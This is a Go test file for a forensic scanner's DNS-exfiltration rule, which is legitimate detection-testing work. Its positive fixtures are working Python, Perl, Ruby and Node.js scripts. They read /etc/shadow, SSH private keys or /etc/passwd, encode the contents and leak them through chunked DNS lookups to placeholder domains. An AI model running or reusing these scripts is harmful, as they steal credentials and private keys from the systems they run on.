package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestDNSExfil: names built from encoded data and looked up one after another carry the data
// out over DNS (STRATA-MW-003, high), in Python, Perl, Ruby and Node.js, through chunks, loop
// variables, f-strings, % formatting and concatenation; programs that resolve a configured
// host, or encode credentials for a header and resolve the server's name, stay silent.
func TestDNSExfil(t *testing.T) {
	for name, tc := range map[string]struct{ path, text string }{
		"py-b32-fstring": {"/opt/.c/q.py", "import base64, socket, time\nD = 'x.example.net'\ndef send(data):\n    enc = base64.b32encode(data.encode()).decode().rstrip('=')\n    parts = [enc[i:i+40] for i in range(0, len(enc), 40)]\n    for n, p in enumerate(parts):\n        socket.gethostbyname(f\"{p}.{n}.{D}\")\n        time.sleep(0.5)\nsend(open('/etc/shadow').read())\n"},
		"py-hex-percent": {"/usr/local/bin/sync.py", "import binascii, socket\ndom = 'c.example.org'\nblob = binascii.hexlify(open('/root/.ssh/id_rsa','rb').read()).decode()\nfor i in range(0, len(blob), 60):\n    label = blob[i:i+60]\n    try:\n        socket.getaddrinfo('%s.%d.%s' % (label, i, dom), 53)\n    except OSError:\n        pass\n"},
		"py-dnspython":   {"/srv/app/beacon.py", "import dns.resolver, base64\nr = dns.resolver.Resolver()\nout = base64.b32encode(b'id=' + open('/etc/hostname','rb').read()).decode().strip('=').lower()\nname = out + '.t.example.com'\nr.resolve(name, 'TXT')\n"},
		"node-hex":       {"/opt/app/lib/x.js", "const dns = require('dns');\nconst fs = require('fs');\nconst hex = Buffer.from(fs.readFileSync('/etc/passwd')).toString('hex');\nfor (let i = 0; i < hex.length; i += 50) {\n  const chunk = hex.slice(i, i + 50);\n  dns.lookup(`${chunk}.${i}.x.example.net`, () => {});\n}\n"},
		"perl-unpack":    {"/usr/local/sbin/q.pl", "use Socket;\nmy $d = 'x.example.net';\nmy $h = unpack('H*', `cat /etc/shadow`);\nforeach my $c ($h =~ /(.{1,50})/g) {\n  gethostbyname(\"$c.$d\");\n}\n"},
		"ruby-b64":       {"/opt/.r/q.rb", "require 'resolv'\nrequire 'base64'\ns = Base64.strict_encode64(File.read('/etc/shadow')).tr('+/=', '-_.')\ns.scan(/.{1,40}/).each_with_index do |c, i|\n  Resolv.getaddress(\"#{c}.#{i}.x.example.net\") rescue nil\nend\n"},
	} {
		fs := scanFile(tc.path, tc.text)
		found := false
		for _, f := range fs {
			if f.Rule == RuleDNSExfil && f.Severity >= audit.High {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: %v", name, fs)
		}
	}
	for name, tc := range map[string]struct{ path, text string }{
		"py-configured": {"/usr/local/bin/check.py", "import socket, base64\nhost = open('/etc/app/host').read().strip()\ntoken = base64.b64encode(b'user:pw').decode()\nprint(socket.gethostbyname(host))\nheaders = {'Authorization': 'Basic ' + token}\n"},
		"node-client":   {"/opt/app/client.js", "const dns = require('dns');\nconst auth = Buffer.from(user + ':' + pass).toString('base64');\ndns.lookup(config.host, (err, addr) => connect(addr, auth));\n"},
	} {
		for _, f := range scanFile(tc.path, tc.text) {
			if f.Rule == RuleDNSExfil {
				t.Errorf("%s: %v", name, f)
			}
		}
	}
}
